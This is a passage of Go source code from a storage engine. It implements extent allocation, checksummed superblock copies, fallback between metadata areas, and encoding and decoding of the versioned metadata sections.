// none — objects migrated from legacy pre-CRC images — so a migrated image
// converges to ObjectsUnverifiable == 0 at its first checkpoint instead of
// staying unverifiable until every object happens to be dirtied.  The
// extent bytes ARE the authoritative sealed contents for any object not
// sealed this epoch, so checksumming them in place is exact; an unreadable
// extent is simply left unverifiable for scrub to report.
func (s *Store) backfillCRCs() {
	type target struct {
		id   uint64
		off  int64
		size int64
	}
	var targets []target
	s.metaMu.RLock()
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		if _, ok := s.objCRCs[k[0]]; !ok {
			targets = append(targets, target{id: k[0], off: int64(v), size: s.objSizes[k[0]]})
		}
		return true
	})
	s.metaMu.RUnlock()
	for _, t := range targets {
		buf := make([]byte, t.size)
		if t.size > 0 {
			if _, err := s.d.ReadAt(buf, t.off); err != nil {
				continue
			}
		}
		crc := crc32c(buf)
		s.metaMu.Lock()
		if off, ok := s.objMap.Get(btree.K1(t.id)); ok && int64(off) == t.off {
			if _, has := s.objCRCs[t.id]; !has {
				s.objCRCs[t.id] = crc
				s.c.crcBackfills.Add(1)
			}
		}
		s.metaMu.Unlock()
	}
}

// ---------------------------------------------------------------------------
// Extent allocation.
// ---------------------------------------------------------------------------

func alignUp(n int64) int64 {
	if n <= 0 {
		return extentAlign
	}
	return (n + extentAlign - 1) / extentAlign * extentAlign
}

// allocate finds a free extent of at least size bytes using the
// free-by-size tree, splitting the extent when it is larger than needed.
func (s *Store) allocate(size int64) (extent, error) {
	s.allocMu.Lock()
	defer s.allocMu.Unlock()
	need := alignUp(size)
	k, _, ok := s.freeBySize.Ceiling(btree.K2(uint64(need), 0))
	if !ok {
		return extent{}, ErrNoSpace
	}
	ext := extent{off: int64(k[1]), size: int64(k[0])}
	s.removeFreeLocked(ext)
	if ext.size > need {
		s.addFreeLocked(extent{off: ext.off + need, size: ext.size - need})
		ext.size = need
	}
	return ext, nil
}

// addFree inserts an extent into both free trees, coalescing with adjacent
// extents (the purpose of the offset-indexed tree).
func (s *Store) addFree(e extent) {
	s.allocMu.Lock()
	s.addFreeLocked(e)
	s.allocMu.Unlock()
}

func (s *Store) addFreeLocked(e extent) {
	if e.size <= 0 {
		return
	}
	// Coalesce with the preceding extent.
	if k, v, ok := s.freeByOff.Floor(btree.K1(uint64(e.off))); ok {
		prev := extent{off: int64(k[0]), size: int64(v)}
		if prev.off+prev.size == e.off {
			s.removeFreeLocked(prev)
			e.off = prev.off
			e.size += prev.size
		}
	}
	// Coalesce with the following extent.
	if k, v, ok := s.freeByOff.Ceiling(btree.K1(uint64(e.off + e.size))); ok {
		next := extent{off: int64(k[0]), size: int64(v)}
		if e.off+e.size == next.off {
			s.removeFreeLocked(next)
			e.size += next.size
		}
	}
	s.freeBySize.Put(btree.K2(uint64(e.size), uint64(e.off)), 0)
	s.freeByOff.Put(btree.K1(uint64(e.off)), uint64(e.size))
}

func (s *Store) removeFreeLocked(e extent) {
	s.freeBySize.Delete(btree.K2(uint64(e.size), uint64(e.off)))
	s.freeByOff.Delete(btree.K1(uint64(e.off)))
}

// ---------------------------------------------------------------------------
// Superblock and metadata persistence.
// ---------------------------------------------------------------------------

// The superblock stores the location and length of the serialized metadata
// (object map, object sizes, free list, labels, label index, segment
// table).  Metadata is written to the alternate metadata area on every
// checkpoint and the superblock is updated last, so a crash during
// checkpoint leaves the previous snapshot intact.  writeSnapshot and the
// encode side of the codecs run only in the checkpoint body (serialized by
// ckptRun) or during single-threaded construction (Format); the decode side
// runs only in single-threaded Open.
//
// Since format version 2, the superblock page holds two identical 64-byte
// checksummed copies (primary at offset 0, backup at offset 512, each in
// its own sector), and every metadata area starts with a checksummed,
// epoch-stamped header followed by per-section CRCs — see the package
// comment for the exact layouts and the fallback rules readSuperblock and
// loadMetadata apply when a check fails.

// superblock field offsets within one 64-byte copy (little-endian u64s
// unless noted).  Version-0 (legacy) images carried only the first five
// fields zero-padded to the 4096-byte page, with no backup copy.
const (
	sbCopySize   = 64
	sbBackupOff  = 512 // second copy sits in its own sector
	sbMagicOff   = 0
	sbWhichOff   = 8
	sbMetaLenOff = 16
	sbLogSizeOff = 24
	sbMetaSzOff  = 32
	sbVersionOff = 40
	sbEpochOff   = 48
	sbCRCOff     = 56 // u32 CRC32C over bytes [0, 56)

	superVersion = 2
)

// metadata-area header layout: a 48-byte checksummed prologue before the
// section stream.
const (
	metaMagic      = 0x484d4554 // "HMET"
	metaVersion    = 4
	metaHeaderSize = 48
	mhMagicOff     = 0
	mhVersionOff   = 8
	mhEpochOff     = 16
	mhPayloadOff   = 24 // payload byte length (sections, after this header)
	mhSectionsOff  = 32 // section count
	mhCRCOff       = 40 // u32 CRC32C over bytes [0, 40)

	// Section tags.  Each section is [tag u64][len u64][crc u64: low 32
	// bits CRC32C of the payload][payload].  The fingerprint index (tag 4)
	// is the only section whose corruption is non-fatal: it is rebuilt from
	// the label section.  Version 3 added the segment table (tag 5);
	// version 4 added the snapshot-bundle table (tag 6: per bundle its
	// lineage ID and serialized name, capture epoch, and object list — see
	// bundle.go for the body codec).  Version-2 images (four sections, no
	// segments — every object in a dedicated extent) and version-3 images
	// (five sections, no bundles) still verify and load, and the next
	// checkpoint rewrites them in v4 form.
	secObjMap  = 1
	secFree    = 2
	secLabels  = 3
	secIndex   = 4
	secSegs    = 5
	secBundles = 6
	numSecs    = 6
	numSecsV3  = 5
	numSecsV2  = 4

	// objCRCValid flags an object-map CRC field as carrying a real
	// contents checksum; entries migrated from legacy images have 0 here
	// and read unverified until their next relocation.
	objCRCValid = uint64(1) << 32
)

// superblockInfo is one parsed superblock copy.
type superblockInfo struct {
	which    int
	metaLen  int64
	logSize  int64
	metaSize int64
	version  uint64
	epoch    uint64
}

// encodeSuperblockCopy builds one 64-byte checksummed copy.
func encodeSuperblockCopy(info superblockInfo) []byte {
	b := make([]byte, sbCopySize)
	binary.LittleEndian.PutUint64(b[sbMagicOff:], superMagic)
	binary.LittleEndian.PutUint64(b[sbWhichOff:], uint64(info.which))
	binary.LittleEndian.PutUint64(b[sbMetaLenOff:], uint64(info.metaLen))
	binary.LittleEndian.PutUint64(b[sbLogSizeOff:], uint64(info.logSize))
	binary.LittleEndian.PutUint64(b[sbMetaSzOff:], uint64(info.metaSize))
	binary.LittleEndian.PutUint64(b[sbVersionOff:], superVersion)
	binary.LittleEndian.PutUint64(b[sbEpochOff:], info.epoch)
	binary.LittleEndian.PutUint32(b[sbCRCOff:], crc32c(b[:sbCRCOff]))
	return b
}

// parseSuperblockCopy validates one copy at device offset off.  Legacy
// (pre-checksum) images are recognized by an all-zero version/epoch/CRC
// tail; anything else must pass the CRC.
func parseSuperblockCopy(b []byte, off int64) (superblockInfo, error) {
	var info superblockInfo
	if got := binary.LittleEndian.Uint64(b[sbMagicOff:]); got != superMagic {
		return info, &CorruptError{Area: "superblock", Offset: off + sbMagicOff,
			Detail: fmt.Sprintf("bad magic: got %#x, want %#x", got, uint64(superMagic))}
	}
	info.which = int(binary.LittleEndian.Uint64(b[sbWhichOff:]))
	info.metaLen = int64(binary.LittleEndian.Uint64(b[sbMetaLenOff:]))
	info.logSize = int64(binary.LittleEndian.Uint64(b[sbLogSizeOff:]))
	info.metaSize = int64(binary.LittleEndian.Uint64(b[sbMetaSzOff:]))
	info.version = binary.LittleEndian.Uint64(b[sbVersionOff:])
	info.epoch = binary.LittleEndian.Uint64(b[sbEpochOff:])
	if info.version == 0 {
		// Legacy image — but only if the whole post-field tail really is
		// zero; a checksummed copy whose version field rotted to zero still
		// has a non-zero CRC and must not sneak past verification.
		for _, c := range b[sbVersionOff:] {
			if c != 0 {
				return info, &CorruptError{Area: "superblock", Offset: off + sbVersionOff,
					Detail: "version field zero but checksum tail non-zero"}
			}
		}
		if info.which != 0 && info.which != 1 {
			return info, &CorruptError{Area: "superblock", Offset: off + sbWhichOff,
				Detail: fmt.Sprintf("metadata area selector %d out of range", info.which)}
		}
		if info.metaSize == 0 {
			// Images from before the metadata area size was recorded.
			info.metaSize = defaultMetaAreaSize
		}
		return info, nil
	}
	if info.version != superVersion {
		return info, &CorruptError{Area: "superblock", Offset: off + sbVersionOff,
			Detail: fmt.Sprintf("unsupported superblock version %d", info.version)}
	}
	want := binary.LittleEndian.Uint32(b[sbCRCOff:])
	if got := crc32c(b[:sbCRCOff]); got != want {
		return info, &CorruptError{Area: "superblock", Offset: off + sbCRCOff,
			Detail: fmt.Sprintf("checksum mismatch: got %#x, want %#x", got, want)}
	}
	if info.which != 0 && info.which != 1 {
		return info, &CorruptError{Area: "superblock", Offset: off + sbWhichOff,
			Detail: fmt.Sprintf("metadata area selector %d out of range", info.which)}
	}
	return info, nil
}

// writeSnapshot serializes the metadata sections against the sealed epoch,
// writes them to the alternate metadata area, and flips the superblock.
// It runs in the checkpoint body (ckptRun serialized) or single-threaded
// construction: sbMu fences the superblock/meta-area device I/O against a
// concurrent scrub's reads of the same regions, and the committed
// metaWhich/metaEpoch are published under metaMu so concurrent readers
// (scrub) always see a (which, epoch) pair that matches the bytes on disk.
func (s *Store) writeSnapshot(epoch uint64, labels []sealedLabel) error {
	meta := s.encodeMetadata(epoch, labels)
	if int64(len(meta)) > s.metaSize {
		return fmt.Errorf("store: metadata (%d bytes) exceeds the metadata area", len(meta))
	}
	s.metaMu.RLock()
	next := 1 - s.metaWhich
	s.metaMu.RUnlock()
	metaOff := logOffset + s.logSize + int64(next)*s.metaSize
	s.sbMu.Lock()
	defer s.sbMu.Unlock()
	if _, err := s.d.WriteAt(meta, metaOff); err != nil {
		return err
	}
	// Barrier between the metadata image and the superblock that references
	// it: without it, a write-back cache destaging in ascending offset
	// order could persist the new superblock (offset 0) before the new
	// metadata area behind it.  The same barrier also orders every data
	// write of this checkpoint (segments, dedicated extents, CRC-backfill
	// sources) before the superblock that references them.
	if err := s.d.Flush(); err != nil {
		return err
	}
	copyBytes := encodeSuperblockCopy(superblockInfo{
		which: next, metaLen: int64(len(meta)),
		logSize: s.logSize, metaSize: s.metaSize, epoch: epoch,
	})
	sb := make([]byte, sbBackupOff+sbCopySize)
	copy(sb[0:], copyBytes)
	copy(sb[sbBackupOff:], copyBytes)
	if _, err := s.d.WriteAt(sb, superblockOffset); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	s.metaMu.Lock()
	s.metaWhich = next
	s.metaEpoch = epoch
	s.metaMu.Unlock()
	s.c.metaBytesWritten.Add(uint64(len(meta) + len(sb)))
	return nil
}

// readSuperblock mounts the superblock and metadata, walking the
// degradation ladder on checksum failures; Open calls it before the store
// is published, so no locks are taken.
func (s *Store) readSuperblock() error {
	raw := make([]byte, sbBackupOff+sbCopySize)
	if _, err := s.d.ReadAt(raw, superblockOffset); err != nil {
		return err
	}
	primary, perr := parseSuperblockCopy(raw[:sbCopySize], superblockOffset)
	backup, berr := parseSuperblockCopy(raw[sbBackupOff:], superblockOffset+sbBackupOff)
	var sb superblockInfo
	switch {
	case perr == nil && berr == nil:
		// Both intact: trust the newer epoch (they differ only if a crash
		// tore the two-copy write, which sector atomicity makes one-sided).
		sb = primary
		if backup.epoch > primary.epoch {
			sb = backup
		}
	case perr == nil:
		sb = primary
		if backup.version != 0 || primary.version != 0 {
			// A legacy image legitimately has no backup copy; anything else
			// means the backup rotted.
			s.noteCorruption(berr)
		}
	case berr == nil:
		sb = backup
		s.report.SuperblockFallback = true
		s.noteCorruption(perr)
	default:
		s.noteCorruption(berr)
		return s.noteCorruption(fmt.Errorf("both superblock copies invalid: %w (backup: %v)", perr, berr))
	}
	s.logSize = sb.logSize
	s.metaSize = sb.metaSize
	s.metaWhich = sb.which
	s.metaEpoch = sb.epoch
	s.report.LegacyImage = sb.version == 0
	s.report.MetaEpoch = sb.epoch
	return s.loadMetadata(sb)
}

// loadMetadata loads the snapshot sb references, falling back to the
// alternate area (plus the retained write-ahead log generation, which the
// caller replays) when the referenced one fails verification.
func (s *Store) loadMetadata(sb superblockInfo) error {
	if sb.version == 0 {
		return s.loadLegacyMetadata(sb)
	}
	err := s.loadMetaArea(sb.which, sb.epoch)
	if err == nil {
		return nil
	}
	if !errors.Is(err, ErrCorrupt) {
		return err
	}
	s.noteCorruption(err)
	// Referenced snapshot is damaged: reset whatever the failed decode
	// half-applied and try the alternate (previous-checkpoint) area.  Only
	// a strictly older epoch is acceptable — a crash after the metadata
	// write but before the superblock flip can leave the alternate area
	// holding a NEWER, never-committed snapshot, which must not be
	// resurrected.
	s.resetLoadedState()
	alt := 1 - sb.which
	altErr := s.loadMetaAreaFallback(alt, sb.epoch)
	if altErr != nil {
		s.resetLoadedState()
		return s.noteCorruption(fmt.Errorf("both metadata areas unusable: %w (alternate: %v)", err, altErr))
	}
	s.report.MetaFallback = true
	s.metaWhich = alt
	return nil
}

// loadLegacyMetadata loads a pre-checksum image; nothing can be verified,
// so the only ladder available is the old behaviour.  The next checkpoint
// rewrites everything in v2 form.
func (s *Store) loadLegacyMetadata(sb superblockInfo) error {
	if sb.metaLen == 0 {
		dataStart := logOffset + s.logSize + 2*s.metaSize
		s.addFree(extent{off: dataStart, size: s.d.Size() - dataStart})
		return nil
	}
	metaOff := logOffset + s.logSize + int64(sb.which)*s.metaSize
	meta := make([]byte, sb.metaLen)
	if _, err := s.d.ReadAt(meta, metaOff); err != nil {
		return err
	}
	return s.decodeLegacyMetadata(meta)
}

// resetLoadedState clears everything a failed metadata decode may have
// half-applied, so the fallback area decodes into a clean store.
func (s *Store) resetLoadedState() {
	s.objMap = &btree.Tree{}
	s.objSizes = make(map[uint64]int64)
	s.objCRCs = make(map[uint64]uint32)
	s.freeBySize = &btree.Tree{}
	s.freeByOff = &btree.Tree{}
	s.segs = make(map[int64]*segment)
	s.segBases = &btree.Tree{}
	s.openSegBase = 0
	s.bundles = make(map[uint64]*Bundle)
	s.extRefs = make(map[int64]int64)
	for i := range s.shards {
		s.shards[i].objs = make(map[uint64]*objEntry)
		s.shards[i].labelIndex = &btree.Tree{}
	}
	s.report.IndexRebuilt = false
}

// loadMetaArea reads, verifies, and decodes metadata area which, requiring
// its header epoch to equal wantEpoch (the epoch the superblock committed).
func (s *Store) loadMetaArea(which int, wantEpoch uint64) error {
	secs, epoch, indexErr, err := s.verifyMetaArea(which)
	if err != nil {
		return err
	}
	if epoch != wantEpoch {
		return &CorruptError{Area: "metadata", Offset: s.metaAreaOff(which) + mhEpochOff,
			Detail: fmt.Sprintf("snapshot epoch %d does not match superblock epoch %d", epoch, wantEpoch)}
	}
	if indexErr != nil {
		s.noteCorruption(indexErr)
		s.report.IndexRebuilt = true
	}
	return s.applyMetaSections(which, secs)
}

// loadMetaAreaFallback is loadMetaArea for the alternate area: any epoch
// strictly older than the superblock's is acceptable.
func (s *Store) loadMetaAreaFallback(which int, sbEpoch uint64) error {
	secs, epoch, indexErr, err := s.verifyMetaArea(which)
	if err != nil {
		return err
	}
	if epoch >= sbEpoch {
		return &CorruptError{Area: "metadata", Offset: s.metaAreaOff(which) + mhEpochOff,
			Detail: fmt.Sprintf("alternate snapshot epoch %d not older than superblock epoch %d (uncommitted checkpoint)", epoch, sbEpoch)}
	}
	if indexErr != nil {
		s.noteCorruption(indexErr)
		s.report.IndexRebuilt = true
	}
	if err := s.applyMetaSections(which, secs); err != nil {
		return err
	}
	s.metaEpoch = epoch
	s.report.MetaEpoch = epoch
	return nil
}

func (s *Store) metaAreaOff(which int) int64 {
	return logOffset + s.logSize + int64(which)*s.metaSize
}

// verifyMetaArea reads area which and checks the header and every section
// CRC, returning the raw section payloads by tag.  A corrupt index section
// (tag 4) alone is tolerated: the section is returned as nil along with a
// non-nil indexErr, and callers decide whether to rebuild (Open) or just
// count it (Scrub).  No payload is decoded here — verification is complete
// before any byte is interpreted, so a damaged area can never half-apply.
func (s *Store) verifyMetaArea(which int) (secs [numSecs + 1][]byte, epoch uint64, indexErr, err error) {
	areaOff := s.metaAreaOff(which)
	hdr := make([]byte, metaHeaderSize)
	if _, rerr := s.d.ReadAt(hdr, areaOff); rerr != nil {
		return secs, 0, nil, rerr
	}
	if got := binary.LittleEndian.Uint64(hdr[mhMagicOff:]); got != metaMagic {
		return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff,
			Detail: fmt.Sprintf("bad area magic: got %#x, want %#x", got, uint64(metaMagic))}
	}
	wantCRC := binary.LittleEndian.Uint32(hdr[mhCRCOff:])
	if got := crc32c(hdr[:mhCRCOff]); got != wantCRC {
		return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + mhCRCOff,
			Detail: fmt.Sprintf("area header checksum mismatch: got %#x, want %#x", got, wantCRC)}
	}
	v := binary.LittleEndian.Uint64(hdr[mhVersionOff:])
	if v != 2 && v != 3 && v != metaVersion {
		return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + mhVersionOff,
			Detail: fmt.Sprintf("unsupported metadata version %d", v)}
	}
	// Version-2 areas carry four sections (no segment table; every object
	// loads as a dedicated extent) and version-3 areas five (no bundle
	// table); the missing sections stay nil.
	wantSecs, maxTag := uint64(numSecs), uint64(secBundles)
	switch v {
	case 2:
		wantSecs, maxTag = numSecsV2, secIndex
	case 3:
		wantSecs, maxTag = numSecsV3, secSegs
	}
	epoch = binary.LittleEndian.Uint64(hdr[mhEpochOff:])
	payloadLen := int64(binary.LittleEndian.Uint64(hdr[mhPayloadOff:]))
	nSecs := binary.LittleEndian.Uint64(hdr[mhSectionsOff:])
	if payloadLen < 0 || payloadLen > s.metaSize-metaHeaderSize || nSecs != wantSecs {
		return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + mhPayloadOff,
			Detail: fmt.Sprintf("implausible geometry: payload %d bytes, %d sections", payloadLen, nSecs)}
	}
	payload := make([]byte, payloadLen)
	if _, rerr := s.d.ReadAt(payload, areaOff+metaHeaderSize); rerr != nil {
		return secs, 0, nil, rerr
	}
	// Walk the section stream.  Structure damage (bad tag, length past the
	// payload) is fatal for the area; a checksum failure is fatal unless it
	// is the rebuildable index section.
	off := int64(0)
	seen := 0
	for off < payloadLen {
		if payloadLen-off < 24 {
			return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + metaHeaderSize + off,
				Detail: "truncated section header"}
		}
		tag := binary.LittleEndian.Uint64(payload[off:])
		slen := int64(binary.LittleEndian.Uint64(payload[off+8:]))
		scrc := binary.LittleEndian.Uint64(payload[off+16:])
		off += 24
		if tag < secObjMap || tag > maxTag || secs[tag] != nil || slen < 0 || slen > payloadLen-off {
			return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + metaHeaderSize + off - 24,
				Detail: fmt.Sprintf("bad section header: tag %d, length %d", tag, slen)}
		}
		body := payload[off : off+slen]
		off += slen
		seen++
		if got := crc32c(body); uint64(got) != scrc {
			cerr := &CorruptError{Area: "metadata", Offset: areaOff + metaHeaderSize + off - slen,
				Detail: fmt.Sprintf("section %d checksum mismatch: got %#x, want %#x", tag, got, scrc)}
			if tag == secIndex {
				// The index is derived data: report it separately, leave the
				// section nil, and let the caller rebuild from labels.
				cerr.Area = "metadata/index"
				indexErr = cerr
				continue
			}
			return secs, 0, nil, cerr
		}
		secs[tag] = body
	}
	if uint64(seen) != wantSecs {
		return secs, 0, nil, &CorruptError{Area: "metadata", Offset: areaOff + metaHeaderSize,
			Detail: fmt.Sprintf("expected %d sections, found %d", wantSecs, seen)}
	}
	return secs, epoch, indexErr, nil
}

// applyMetaSections decodes the verified section payloads into the store.
func (s *Store) applyMetaSections(which int, secs [numSecs + 1][]byte) error {
	areaOff := s.metaAreaOff(which)
	if err := s.decodeObjMapSection(secs[secObjMap], areaOff); err != nil {
		return err
	}
	if err := s.decodeFreeSection(secs[secFree], areaOff); err != nil {
		return err
	}
	if err := s.decodeLabelSection(secs[secLabels], areaOff); err != nil {
		return err
	}
	if secs[secIndex] == nil {
		s.rebuildLabelIndex()
	} else if err := s.decodeIndexSection(secs[secIndex], areaOff); err != nil {
		// The index section passed its CRC but does not parse — a codec
		// regression rather than rot, but still recoverable the same way.
		s.noteCorruption(err)
		s.report.IndexRebuilt = true
		for i := range s.shards {
			s.shards[i].labelIndex = &btree.Tree{}
		}
		s.rebuildLabelIndex()
	}
	// The segment table is absent in version-2 images: every object then
	// lives in a dedicated extent and new segments start fresh.
	if secs[secSegs] != nil {
		if err := s.decodeSegsSection(secs[secSegs], areaOff); err != nil {
			return err
		}
	}
	// The bundle table is absent before version 4 (no bundles existed).
	if secs[secBundles] != nil {
		if err := s.decodeBundlesSection(secs[secBundles], areaOff); err != nil {
			return err
		}
	}
	s.recomputeSegLive()
	return nil
}

// rebuildLabelIndex recomputes the fingerprint index from the decoded
// labels (the index is pure derived data).
func (s *Store) rebuildLabelIndex() {
	for si := range s.shards {
		sh := &s.shards[si]
		for id, e := range sh.objs {
			if e.hasLbl {
				sh.labelIndex.Put(btree.K2(uint64(e.lbl.Fingerprint()), id), 0)
			}
		}
	}
}

// appendU64 is the metadata codecs' little-endian primitive.
func appendU64(buf []byte, v uint64) []byte {
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], v)
	return append(buf, b[:]...)
}

// encodeMetadata serializes the version-4 metadata image: a checksummed,
// epoch-stamped header followed by six individually checksummed sections
// (object map with per-object content CRCs, free list, labels, fingerprint
// index, segment table, snapshot-bundle table).  The object map and
// free/segment state are read under their own locks — by the time the body
// serializes, it has finished mutating them, and no concurrent operation
// does — while the label and index sections come from the seal-time
// capture, so the snapshot is consistent with the sealed epoch even as
// concurrent SetLabel calls proceed.  The bundle section reads the live
// table under metaMu: bundles registered after the seal simply appear one
// snapshot early, which replay tolerates (re-registration is idempotent).
func (s *Store) encodeMetadata(epoch uint64, labels []sealedLabel) []byte {
	// Object map: (id, offset, size, contents-CRC) quads.
	var objs []byte
	s.metaMu.RLock()
	objs = appendU64(objs, uint64(s.objMap.Len()))
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		objs = appendU64(objs, k[0])
		objs = appendU64(objs, v)
		objs = appendU64(objs, uint64(s.objSizes[k[0]]))
		crcField := uint64(0)
		if crc, ok := s.objCRCs[k[0]]; ok {
			crcField = objCRCValid | uint64(crc)
		}
		objs = appendU64(objs, crcField)
		return true
	})
	s.metaMu.RUnlock()
	// Free list by offset, and the segment table (base, size, used; live is
	// derived), both under allocMu.
	var free, segsSec []byte
	s.allocMu.Lock()
	nf := 0
	s.freeByOff.Scan(func(btree.Key, uint64) bool { nf++; return true })
	free = appendU64(free, uint64(nf))
	s.freeByOff.Scan(func(k btree.Key, v uint64) bool {
		free = appendU64(free, k[0])
		free = appendU64(free, v)
		return true
	})
	segsSec = appendU64(segsSec, uint64(len(s.segs)))
	s.segBases.Scan(func(k btree.Key, _ uint64) bool {
		seg := s.segs[int64(k[0])]
		segsSec = appendU64(segsSec, uint64(seg.base))
		segsSec = appendU64(segsSec, uint64(seg.size))
		segsSec = appendU64(segsSec, uint64(seg.used))
		return true
	})
	s.allocMu.Unlock()
	// Object labels in canonical serialized form, and the fingerprint index
	// derived from them — both from the seal-time capture.
	var labelsSec []byte
	labelsSec = appendU64(labelsSec, uint64(len(labels)))
	idx := make([][2]uint64, 0, len(labels))
	for _, sl := range labels {
		labelsSec = appendU64(labelsSec, sl.id)
		labelsSec = sl.lbl.AppendBinary(labelsSec)
		idx = append(idx, [2]uint64{uint64(sl.lbl.Fingerprint()), sl.id})
	}
	sort.Slice(idx, func(i, j int) bool {
		if idx[i][0] != idx[j][0] {
			return idx[i][0] < idx[j][0]
		}
		return idx[i][1] < idx[j][1]
	})
	var index []byte
	index = appendU64(index, uint64(len(idx)))
	for _, p := range idx {
		index = appendU64(index, p[0])
		index = appendU64(index, p[1])
	}

	bundlesSec := s.encodeBundlesSection()

	var payload []byte
	for _, sec := range []struct {
		tag  uint64
		body []byte
	}{{secObjMap, objs}, {secFree, free}, {secLabels, labelsSec}, {secIndex, index},
		{secSegs, segsSec}, {secBundles, bundlesSec}} {
		payload = appendU64(payload, sec.tag)
		payload = appendU64(payload, uint64(len(sec.body)))
		payload = appendU64(payload, uint64(crc32c(sec.body)))
		payload = append(payload, sec.body...)
	}

	hdr := make([]byte, metaHeaderSize)
	binary.LittleEndian.PutUint64(hdr[mhMagicOff:], metaMagic)
	binary.LittleEndian.PutUint64(hdr[mhVersionOff:], metaVersion)
	binary.LittleEndian.PutUint64(hdr[mhEpochOff:], epoch)
	binary.LittleEndian.PutUint64(hdr[mhPayloadOff:], uint64(len(payload)))
	binary.LittleEndian.PutUint64(hdr[mhSectionsOff:], numSecs)
	binary.LittleEndian.PutUint32(hdr[mhCRCOff:], crc32c(hdr[:mhCRCOff]))
	return append(hdr, payload...)
}

// sectionReader walks one verified section payload; every structural
// violation comes back as a CorruptError anchored at the section's device
// offset.
type sectionReader struct {
	buf  []byte
	off  int64 // device offset of the section start, for error reports
	area string
}

func (r *sectionReader) u64() (uint64, error) {
	if len(r.buf) < 8 {
		return 0, &CorruptError{Area: r.area, Offset: r.off, Detail: "truncated section"}
	}
	v := binary.LittleEndian.Uint64(r.buf)
	r.buf = r.buf[8:]
	return v, nil
}

func (s *Store) decodeObjMapSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata"}
	n, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		id, err := r.u64()
		if err != nil {
			return err
		}
		off, err := r.u64()
		if err != nil {
			return err
		}
		size, err := r.u64()
		if err != nil {
			return err
		}
		crcField, err := r.u64()
		if err != nil {
			return err
		}
		s.objMap.Put(btree.K1(id), off)
		s.objSizes[id] = int64(size)
		if crcField&objCRCValid != 0 {
			s.objCRCs[id] = uint32(crcField)
		}
	}
	return nil
}

func (s *Store) decodeFreeSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata"}
	nf, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nf; i++ {
		off, err := r.u64()
		if err != nil {
			return err
		}
		size, err := r.u64()
		if err != nil {
			return err
		}
		s.freeBySize.Put(btree.K2(size, off), 0)
		s.freeByOff.Put(btree.K1(off), size)
	}
	return nil
}

func (s *Store) decodeSegsSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata"}
	n, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		base, err := r.u64()
		if err != nil {
			return err
		}
		size, err := r.u64()
		if err != nil {
			return err
		}
		used, err := r.u64()
		if err != nil {
			return err
		}
		if size == 0 || used > size {
			return &CorruptError{Area: "metadata", Offset: areaOff,
				Detail: fmt.Sprintf("segment at %d has impossible geometry (size %d, used %d)", base, size, used)}
		}
		seg := &segment{base: int64(base), size: int64(size), used: int64(used)}
		s.segs[seg.base] = seg
		s.segBases.Put(btree.K1(base), 0)
	}
	return nil
}

func (s *Store) decodeLabelSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata"}
	nl, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nl; i++ {
		id, err := r.u64()
		if err != nil {
			return err
		}
		lbl, rest, derr := s.decodeLabel(r.buf)
		if derr != nil {
			return &CorruptError{Area: "metadata", Offset: areaOff,
				Detail: fmt.Sprintf("label of object %d does not decode: %v", id, derr)}
		}
		r.buf = rest
		e := s.shardOf(id).getOrCreate(id)
		e.lbl, e.hasLbl = lbl, true
	}
	return nil
}

func (s *Store) decodeIndexSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata/index"}
	ni, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < ni; i++ {
		fp, err := r.u64()
		if err != nil {
			return err
		}
		id, err := r.u64()
		if err != nil {
			return err
		}
		s.shardOf(id).labelIndex.Put(btree.K2(fp, id), 0)
	}
	return nil
}

// decodeLegacyMetadata rebuilds the trees and entries from a pre-v2
// snapshot image (unsectioned, no checksums, object map without content
// CRCs); Open calls it before the store is published, so no locks are
// taken.
func (s *Store) decodeLegacyMetadata(buf []byte) error {
	readU64 := func() (uint64, error) {
		if len(buf) < 8 {
			return 0, s.noteCorruption(&CorruptError{Area: "metadata", Detail: "truncated legacy metadata"})
		}
		v := binary.LittleEndian.Uint64(buf)
		buf = buf[8:]
		return v, nil
	}
	n, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.objMap.Put(btree.K1(id), off)
		s.objSizes[id] = int64(size)
	}
	nf, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nf; i++ {
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.freeBySize.Put(btree.K2(size, off), 0)
		s.freeByOff.Put(btree.K1(off), size)
	}
	// Optional label section (absent in pre-label metadata images).
	if len(buf) == 0 {
		return nil
	}
	nl, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nl; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		lbl, rest, derr := s.decodeLabel(buf)
		if derr != nil {
			return s.noteCorruption(&CorruptError{Area: "metadata",
				Detail: fmt.Sprintf("legacy label of object %d does not decode: %v", id, derr)})
		}
		buf = rest
		e := s.shardOf(id).getOrCreate(id)
		e.lbl, e.hasLbl = lbl, true
	}
	// Optional label-index section (absent in pre-index images, which
	// rebuild it from the labels just decoded).
	if len(buf) == 0 {
		s.rebuildLabelIndex()
		return nil
	}
	ni, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < ni; i++ {
		fp, err := readU64()
		if err != nil {
			return err
		}
		id, err := readU64()
		if err != nil {
			return err
		}
